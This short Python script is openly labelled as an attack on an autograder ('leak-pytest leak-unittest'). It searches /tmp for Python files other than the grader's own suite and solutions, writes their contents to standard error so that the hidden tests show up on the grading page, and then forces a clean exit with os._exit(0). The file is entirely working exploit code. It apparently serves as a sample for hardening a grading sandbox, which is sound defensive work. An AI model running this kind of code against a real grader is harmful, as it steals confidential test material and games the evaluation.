# Wants to read the author's hidden tests: they go to standard error, which the page shows when no report is left.
# attack: python leak-pytest leak-unittest
import glob, os, sys
for path in glob.glob("/tmp/**/*.py", recursive=True):
    if "cograde_suite" not in path and "solution" not in path:
        sys.__stderr__.write(open(path).read()); os.write(2, open(path).read().encode())
os._exit(0)
